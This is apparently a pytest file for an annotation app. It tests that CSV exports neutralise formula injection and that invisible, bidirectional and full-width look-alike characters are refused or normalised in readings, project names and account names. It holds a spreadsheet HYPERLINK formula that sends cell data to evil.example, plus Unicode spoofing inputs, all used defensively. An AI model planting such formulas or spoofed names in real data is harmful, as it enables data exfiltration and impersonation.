"""Issue 18, finding 6 (text): each test replays what the probe of main found and fails there.

- a reading ``=HYPERLINK(...)`` became a formula cell in the CSV export;
- "5" and "5\\u200b" were two readings, and "５" (full width) was not "5"; a reading outside the model's
  alphabet (a letter for a digit model) was stored;
- a look-alike project name ("ｄｉｇｉｔｓ", "digits\\u200b") sat beside the real one; a look-alike account name
  too.

The services are called as the app calls them, on a throwaway SQLite file with a real tiny engine.
"""

from __future__ import annotations

import pytest
from sqlalchemy import select

from annotation.accounts import authenticate, create_rater, rater_by_name
from annotation.errors import Conflict, InvalidInput
from annotation.exports import export, read_table
from annotation.projects import ProjectSettings, create_project, get_project, reading_alphabet
from annotation.tasks import next_task, submit
from conftest import make_store, seeded_project, tiny_flow_engine
from db.engine import session_scope
from db.models import Reading

FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"click")'


@pytest.fixture
def factory(tmp_path):
    eng, factory = make_store(f"sqlite:///{tmp_path / 'text.sqlite'}")
    yield factory
    eng.dispose()


def _rater(factory, name: str) -> int:
    with session_scope(factory) as s:
        return create_rater(s, name, "rater", "pw").id


def test_a_formula_reading_is_neutralised_in_the_csv_export_only(factory, tmp_path):
    engine = tiny_flow_engine()  # "tiny-x4": any visible text is a reading
    pid = seeded_project(factory, engine, n_images=1, name="csv")
    rid = _rater(factory, "r1")
    with session_scope(factory) as s:
        t = next_task(s, rid, pid)
        submit(s, rid, t.assignment_id, [t.samples[0].sample_id, t.samples[1].sample_id], FORMULA)
    with session_scope(factory) as s:
        csv = export(s, pid, "votes", "csv", tmp_path / "v.csv").path
        js = export(s, pid, "votes", "json", tmp_path / "v.json").path
    raw = csv.read_text(encoding="utf-8")
    assert "'=HYPERLINK(" in raw and ",=HYPERLINK(" not in raw and ',"=HYPERLINK(' not in raw
    assert set(read_table(csv, "csv")["reading"]) == {"'" + FORMULA}  # a spreadsheet shows it as text
    assert set(read_table(js, "json")["reading"]) == {FORMULA}  # JSON keeps the reading as typed


def test_invisible_characters_are_refused_and_full_width_digits_are_one_reading(factory):
    engine = tiny_flow_engine(name="mnist-tiny-x4")  # a digit model: readings are digits (or ?)
    assert reading_alphabet(engine.name) == "0123456789?"
    pid = seeded_project(factory, engine, n_images=2, name="digits")
    a, b = _rater(factory, "a"), _rater(factory, "b")
    with session_scope(factory) as s:
        t = next_task(s, a, pid)
    picks = [t.samples[0].sample_id, t.samples[1].sample_id]
    for bad, why in [("5\u200b", r"U\+200B ZERO WIDTH SPACE"), ("\u202e5", "bidirectional control"),
                     ("5\x85", r"U\+0085"), ("5a", "outside this project's alphabet: 'a'")]:
        with session_scope(factory) as s, pytest.raises(InvalidInput, match=why):
            submit(s, a, t.assignment_id, picks, bad)
    with session_scope(factory) as s:
        assert submit(s, a, t.assignment_id, picks, "\uff15").reading == "5"  # "５" is "5"
        tb = next_task(s, b, pid)
        tb = tb if tb.image_id == t.image_id else None
    with session_scope(factory) as s:
        assert s.scalars(select(Reading.text)).all() == ["5"]
    if tb is not None:  # the same image for rater b: " 5 " and "5" are one reading, so the share is 100%
        with session_scope(factory) as s:
            submit(s, b, tb.assignment_id, [tb.samples[0].sample_id, tb.samples[1].sample_id], " 5 ")
            assert sorted(s.scalars(select(Reading.text)).all()) == ["5", "5"]


def test_plate_readings_are_upper_case_letters_and_digits():
    from annotation.projects import normalize_reading

    assert normalize_reading("8b0d12", "plates-x4") == "8B0D12"
    assert normalize_reading("\uff18\uff22?", "plates-x4") == "8B?"
    with pytest.raises(InvalidInput, match="outside this project's alphabet: '-'"):
        normalize_reading("8B-0", "plates-x4")
    assert normalize_reading("any text", "diffusers:/models/sr") == "any text"


def test_look_alike_project_names_collide(factory):
    values = dict(model_name="tiny-x4", scale=4, bank_size=4, k_picks=2, ensemble_size=2)
    with session_scope(factory) as s:
        create_project(s, ProjectSettings(name="digits", **values))
    for twin in ["\uff44\uff49\uff47\uff49\uff54\uff53", "Digits", " digits "]:  # full width, case, spaces
        with session_scope(factory) as s, pytest.raises(Conflict, match="already exists"):
            create_project(s, ProjectSettings(name=twin, **values))
    for hidden in ["digits\u200b", "dig\u00adits", "\u202edigits"]:  # zero width, soft hyphen, bidi
        with session_scope(factory) as s, pytest.raises(InvalidInput, match="project name contains"):
            create_project(s, ProjectSettings(name=hidden, **values))
    with session_scope(factory) as s:
        assert get_project(s, "\uff44\uff49\uff47\uff49\uff54\uff53").name == "digits"


def test_look_alike_account_names_are_one_account(factory):
    with session_scope(factory) as s:
        create_rater(s, "ana", "analyst", "pw-1")
    with session_scope(factory) as s, pytest.raises(Conflict):
        create_rater(s, "\uff41\uff4e\uff41", "rater", "pw-2")  # "ａｎａ"
    with session_scope(factory) as s, pytest.raises(InvalidInput, match="U\\+200D"):
        create_rater(s, "ana\u200d", "rater", "pw-2")
    with session_scope(factory) as s:
        assert authenticate(s, "\uff41\uff4e\uff41", "pw-1") is not None
        assert rater_by_name(s, " ana").name == "ana"
        assert authenticate(s, "ana\u200b", "pw-1") is None
